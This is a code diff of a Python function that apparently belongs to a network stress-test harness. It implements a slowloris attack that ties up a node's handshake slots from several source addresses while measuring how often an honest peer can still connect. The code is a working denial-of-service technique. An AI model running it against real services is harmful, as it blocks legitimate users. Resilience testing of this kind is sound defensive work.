@@ -147,17 +147,64 @@ async def connection_churn(
     return out
 
 
-async def slowloris(target: str, sockets: int = 64, hold: float = 30.0) -> dict:
-    """Open ``sockets`` connections that propose /noise and go silent for ``hold`` seconds."""
-    peers = [RawPeer() for _ in range(sockets)]
-    opened = 0
-    for peer in peers:
-        try:
-            await peer.stall_handshake(target)
-            opened += 1
-        except OSError:
-            pass
-    await trio.sleep(hold)
-    for peer in peers:
-        await peer.aclose()
-    return {"stalled_sockets": opened}
+async def slowloris(
+    target: str,
+    sources: list[str],
+    per_source: int = 4,
+    hold: float = 10.0,
+    honest_every: float = 0.25,
+    honest_from: str | None = None,
+) -> dict:
+    """Hold ``per_source`` silent handshakes (``/noise``, then nothing) from each address of
+    ``sources`` for ``hold`` seconds, re-opening the ones the victim drops; meanwhile an honest peer
+    (from ``honest_from``) opens a new connection every ``honest_every`` seconds. Reports how many
+    honest connections completed their handshake within 5 s."""
+    stalled = honest_ok = honest_failed = reopened = 0
+
+    async def stall(source: str) -> None:
+        nonlocal stalled, reopened
+        first = True
+        while True:
+            peer = RawPeer()
+            try:
+                await peer.stall_handshake(target, local_address=source)
+                stalled += first
+                reopened += not first
+                first = False
+                await peer.tcp.receive_some(1024)  # returns once the victim drops us (or sends)
+                while await peer.tcp.receive_some(1024):
+                    pass
+            except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
+                await trio.sleep(0.05)
+            finally:
+                await peer.aclose()
+
+    async def honest() -> None:
+        nonlocal honest_ok, honest_failed
+        while True:
+            peer = RawPeer()
+            try:
+                with trio.fail_after(5):
+                    await peer.connect(target, local_address=honest_from)
+                honest_ok += 1
+            except Exception:
+                honest_failed += 1
+            finally:
+                await peer.aclose()
+            await trio.sleep(honest_every)
+
+    async with trio.open_nursery() as nursery:
+        for source in sources:
+            for _ in range(per_source):
+                nursery.start_soon(stall, source)
+        await trio.sleep(1.0)  # the slots are taken before the honest peer arrives
+        nursery.start_soon(honest)
+        await trio.sleep(hold)
+        nursery.cancel_scope.cancel()
+    total = honest_ok + honest_failed
+    return {
+        "stalled_sockets": stalled,
+        "reopened": reopened,
+        "honest_new_connections": total,
+        "honest_success": round(honest_ok / total, 3) if total else None,
+    }
